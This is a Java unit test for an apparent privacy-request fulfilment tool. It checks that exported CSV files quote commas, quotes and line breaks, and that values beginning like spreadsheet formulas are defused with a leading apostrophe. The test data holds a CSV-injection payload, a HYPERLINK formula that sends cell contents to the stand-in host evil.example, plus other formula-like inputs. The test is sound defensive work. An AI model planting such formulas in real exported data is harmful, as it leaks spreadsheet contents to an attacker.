package dev.rightful.fulfil;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import dev.rightful.datamap.DataMap;
import dev.rightful.fulfil.access.AccessPackage;
import dev.rightful.fulfil.access.AccessReport;
import dev.rightful.fulfil.connector.jdbc.JdbcConnector;
import dev.rightful.law.Lookback;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What a consumer or staff member typed into the company's database comes back out of the access
 * package's CSV as typed, read by an independent CSV parser: commas, double quotes and line breaks
 * quoted (RFC 4180), and a value a spreadsheet would read as a formula defused with a leading
 * apostrophe (OWASP, CSV injection).
 */
class AccessCsvTest {
  private static final DataMap MAP = CompanyDb.map();
  private static final Identity JANE =
      new Identity(Map.of("email", Set.of("jane.doe@example.com")));

  /** Invoice id, then billing_name, billing_address and description as stored. */
  private static final List<List<Object>> TYPED =
      List.of(
          List.of(
              4008L,
              "Doe, Jane \"JD\"",
              "742 Valencia St\nApt 3\r\nSan Francisco, CA 94110",
              "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Refund\")"),
          List.of(4009L, "+1 415 555 0100", "-2+3", "@SUM(A1:A9)"),
          List.of(4010L, "\t=1+1", "\r=1+1", "=1\n=2, \"and\" more"));

  /** The same values as a spreadsheet-safe package must hold them. */
  private static final List<List<String>> EXPECTED =
      List.of(
          List.of(
              "4008",
              "Doe, Jane \"JD\"",
              "742 Valencia St\nApt 3\r\nSan Francisco, CA 94110",
              "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Refund\")"),
          List.of("4009", "'+1 415 555 0100", "'-2+3", "'@SUM(A1:A9)"),
          List.of("4010", "'\t=1+1", "'\r=1+1", "'=1\n=2, \"and\" more"));

  @ParameterizedTest
  @ValueSource(strings = {"postgresql", "mariadb"})
  void typed_commas_quotes_line_breaks_and_formulas_read_back_as_typed_and_defused(String dialect)
      throws Exception {
    Plan plan = new Planner().plan(MAP);
    try (CompanyDb db =
        dialect.equals("postgresql")
            ? CompanyDb.postgres("access_csv")
            : CompanyDb.mariadb("access_csv")) {
      store(db);
      Found found = new JdbcConnector(db.dataSource).find(plan.systems().get(0), JANE);
      Lookback lookback = Lookback.defaultFor(LocalDate.of(2026, 3, 1));
      AccessReport report = AccessReport.of(MAP, plan, List.of(found), "R-1", lookback, true);
      String csv = JdbcAccessTest.unzip(AccessPackage.zip(report)).get("company_db.invoices.csv");

      List<List<String>> rows = parse(csv);
      assertThat(rows.get(0))
          .containsExactly(
              "id",
              "account_id",
              "billing_name",
              "billing_address",
              "amount",
              "description",
              "issued_at");
      List<List<String>> typed = new ArrayList<>();
      for (List<String> row : rows.subList(1, rows.size())) {
        typed.add(List.of(row.get(0), row.get(2), row.get(3), row.get(5)));
      }
      assertThat(typed).isEqualTo(EXPECTED);
      // Rows end in CRLF; a line break inside a value is quoted, never a row of its own.
      assertThat(csv).endsWith("\r\n").startsWith("id,account_id,billing_name,");
      assertThat(csv)
          .contains(
              "4008,2001,\"Doe, Jane \"\"JD\"\"\","
                  + "\"742 Valencia St\nApt 3\r\nSan Francisco, CA 94110\",");
    }
  }

  private static void store(CompanyDb db) throws SQLException {
    try (Connection c = db.dataSource.getConnection();
        PreparedStatement update =
            c.prepareStatement(
                "UPDATE invoices SET billing_name = ?, billing_address = ?, description = ?"
                    + " WHERE id = ?")) {
      for (List<Object> row : TYPED) {
        update.setString(1, (String) row.get(1));
        update.setString(2, (String) row.get(2));
        update.setString(3, (String) row.get(3));
        update.setLong(4, (Long) row.get(0));
        assertThat(update.executeUpdate()).isEqualTo(1);
      }
    }
  }

  /** Every record, the header first, as Jackson's CSV parser reads it. */
  private static List<List<String>> parse(String csv) throws Exception {
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<String[]> records =
        new CsvMapper()
            .readerFor(String[].class)
            .with(CsvSchema.emptySchema())
            .with(CsvParser.Feature.WRAP_AS_ARRAY)
            .readValues(csv)) {
      while (records.hasNext()) {
        rows.add(List.of(records.next()));
      }
    }
    return rows;
  }
}
